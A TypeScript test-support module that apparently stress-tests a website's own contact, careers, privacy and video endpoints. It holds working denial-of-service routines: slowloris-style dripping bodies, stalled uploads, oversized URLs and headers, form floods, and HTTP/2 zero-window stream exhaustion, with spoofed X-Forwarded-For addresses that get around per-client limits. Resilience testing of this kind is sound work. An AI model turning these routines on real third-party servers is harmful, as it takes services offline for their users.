/** The attackers of `attacks.ts`, in a process of their own, so that they do not delay its visitor. */
import { type ClientHttp2Session, connect as connectHttp2 } from "node:http2";
import { paths } from "../../content/paths.ts";
import { applicationBody, applicationFields, pdf, pdfText } from "../support/forms.ts";

export type Attack = keyof typeof attacks;

export interface Orders {
  attack: Attack;
  url: string;
  /** Signs for `url`, as PEM, where that is a proxy. */
  certificate?: string;
  /** Network addresses that the requests claim to come from. */
  addresses: number;
  seconds: number;
}

/** Responses by status; 0 is a connection that failed. `rendered` are pages that no other shares. */
export type Answers = Record<number | "rendered", number>;

const film = "/video/commitments.mp4";

const attacks = {
  /** Each address asks 20 times a second, all together 2,000 times. */
  "long addresses": (orders: Orders) =>
    request(orders, Math.min(20 * orders.addresses, 2_000), (n) => [
      `/services/${"a".repeat(20_000)}${n}`,
    ]),

  /** Each address sends 20 forms a second, all together 200; the backend's mail functions hang. */
  "hanging mail": (orders: Orders) =>
    request(orders, Math.min(20 * orders.addresses, 200), (n) => [paths.contact, {
      method: "POST",
      redirect: "manual",
      body: new URLSearchParams({
        name: "Ada",
        email: `a${n}@county.example`,
        message: `${n} `.repeat(600),
      }),
    }]),

  /** 45 connections of an address, at most 1,000, begin a file of 10 MB and go silent. */
  async "silent uploads"({ url, addresses, seconds }: Orders) {
    const answers: Answers = { rendered: 0 };
    const { hostname, port } = new URL(url);
    const head = (n: number) =>
      `POST ${paths.careers} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ${
        address(n % addresses)
      }\r\n` +
      "Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 10400000\r\n\r\n--x\r\n" +
      'Content-Disposition: form-data; name="resume"; filename="cv.pdf"\r\n\r\n%PDF-1.7\n';
    const end = performance.now() + seconds * 1_000;
    const upload = async (n: number) => {
      while (performance.now() < end) {
        using connection = await Deno.connect({ hostname, port: Number(port) });
        const leftMs = Math.max(0, end - performance.now());
        const timer = setTimeout(() => connection.close(), leftMs);
        await connection.write(new TextEncoder().encode(head(n)));
        const bytes = new Uint8Array(64 * 1024);
        const length = await connection.read(bytes).catch(() => null);
        clearTimeout(timer);
        if (length === null) return;
        const text = new TextDecoder().decode(bytes.subarray(0, length));
        count(answers, Number(text.split(" ")[1]), /text\/html/.exec(text)?.[0]);
        await pause(100);
      }
    };
    const connections = Math.min(45 * addresses, 1_000);
    await Promise.all(Array.from({ length: connections }, (_, n) => upload(n).catch(() => {})));
    return answers;
  },

  /** Each address sends 25 known tags of 60,000 spaces a second, all together 50. */
  "long tags": (orders: Orders) =>
    request(orders, Math.min(25 * orders.addresses, 50), () => [paths.privacy, {
      headers: { "if-none-match": `"a${" ".repeat(60_000)}b"` },
    }]),

  /** 285 inquiries, a byte per 200 ms. */
  "dripping forms": (orders: Orders) =>
    sendSlowly(orders, 285, 5, () => ({
      path: paths.contact,
      type: "application/x-www-form-urlencoded",
      length: 5_000,
      start: "name=",
    })),

  /** 32 files of 10 MB at 26 kB a second. */
  "slow files": (orders: Orders) =>
    sendSlowly(orders, 32, 26_000, () => ({
      path: paths.careers,
      type: "multipart/form-data; boundary=x",
      length: 10_400_000,
      start:
        '--x\r\nContent-Disposition: form-data; name="resume"; filename="cv.pdf"\r\n\r\n%PDF-1.7\n',
    })),

  /** A hundred applications with 10 MB each at once. */
  async "large resumes"({ url, addresses }: Orders) {
    const answers: Answers = { rendered: 0 };
    const file = pdf("cv.pdf", pdfText.replace("%%EOF", `${" ".repeat(10e6)}%%EOF`));
    await Promise.all(Array.from({ length: 100 }, async (_, n) => {
      const body = applicationBody(file, { ...applicationFields, lastName: `N${n}` });
      const headers = { "x-forwarded-for": address(n % addresses), accept: "application/json" };
      const answer = await fetch(url + paths.careers, { method: "POST", headers, body });
      await answer.body?.cancel();
      count(answers, answer.status);
    }));
    return answers;
  },

  /** 24 HTTP/2 connections with 128 streams each and a window of zero. */
  async "unread film"({ url, certificate: ca, addresses, seconds }: Orders) {
    const answers: Answers = { rendered: 0 };
    const sessions: ClientHttp2Session[] = [];
    for (let n = 0; n < 24 * 128; n++) {
      if (n % 128 === 0) {
        sessions.push(connectHttp2(url, { ca, settings: { initialWindowSize: 0 } }));
        sessions.at(-1)!.on("error", () => count(answers, 0));
        await pause(20);
      }
      const stream = sessions.at(-1)!.request({
        ":path": film,
        "x-forwarded-for": address(n % addresses),
      });
      stream.on("response", (headers) => count(answers, Number(headers[":status"])));
      stream.on("error", () => {});
    }
    await pause(seconds * 1_000);
    for (const session of sessions) session.destroy();
    return answers;
  },
};

/** Sends bodies that never end, at so many bytes a second each, and again after each response. */
async function sendSlowly(
  { url, addresses, seconds }: Orders,
  connections: number,
  bytesPerSecond: number,
  form: () => { path: string; type: string; length: number; start: string },
): Promise<Answers> {
  const answers: Answers = { rendered: 0 };
  const { hostname, port } = new URL(url);
  const end = performance.now() + seconds * 1_000;
  const share = new Uint8Array(Math.ceil(bytesPerSecond / 5)).fill(97);
  const { path, type, length, start } = form();
  const send = async (n: number) => {
    const head =
      `POST ${path} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ${address(n % addresses)}\r\n` +
      `Content-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n${start}`;
    while (performance.now() < end) {
      const connection = await Deno.connect({ hostname, port: Number(port) });
      let isAnswered = false;
      const answer = new Uint8Array(1_024);
      const reading = connection.read(answer).catch(() => null).then((size) => {
        isAnswered = true;
        const text = new TextDecoder().decode(answer.subarray(0, size ?? 0));
        if (performance.now() < end) count(answers, Number(text.split(" ")[1] ?? 0));
      });
      await connection.write(new TextEncoder().encode(head));
      while (!isAnswered && performance.now() < end) {
        await pause(200);
        await connection.write(share).catch(() => {});
      }
      connection.close();
      await reading;
    }
  };
  const all = Array.from({ length: connections }, (_, n) => send(n).catch(() => {}));
  await Promise.all(all);
  return answers;
}

/** Sends requests at a steady rate; at most 1,000 are open. */
async function request(
  { url, addresses, seconds }: Orders,
  perSecond: number,
  create: (n: number) => [path: string, init?: RequestInit],
): Promise<Answers> {
  using client = Deno.createHttpClient({ poolMaxIdlePerHost: 1_000 });
  const answers: Answers = { rendered: 0 };
  const open = new Set<Promise<void>>();
  const started = performance.now();
  let n = 0;
  const send = async () => {
    const [path, init] = create(n);
    const headers = { ...init?.headers, "x-forwarded-for": address(n++ % addresses) };
    try {
      const answer = await fetch(url + path, { ...init, headers, client });
      await answer.body?.cancel();
      count(answers, answer.status, init && answer.headers.get("content-type"));
    } catch {
      count(answers, 0);
    }
  };
  for (let passed = 0; passed < seconds; passed = (performance.now() - started) / 1_000) {
    while (n < passed * perSecond && open.size < 1_000) {
      const sent: Promise<void> = send().finally(() => open.delete(sent));
      open.add(sent);
    }
    await pause(10);
  }
  await Promise.all(open);
  return answers;
}

/** @param type of the response to a form */
function count(answers: Answers, status: number, type?: string | null): void {
  answers[status] = (answers[status] ?? 0) + 1;
  if (type?.startsWith("text/html")) answers.rendered++;
}

const address = (n: number) => `10.1.${n >> 8}.${n & 255}`;
const pause = (ms: number) => new Promise((later) => setTimeout(later, ms));

const orders: Orders = JSON.parse(Deno.args[0]!);
console.log(JSON.stringify(await attacks[orders.attack](orders)));
Deno.exit();
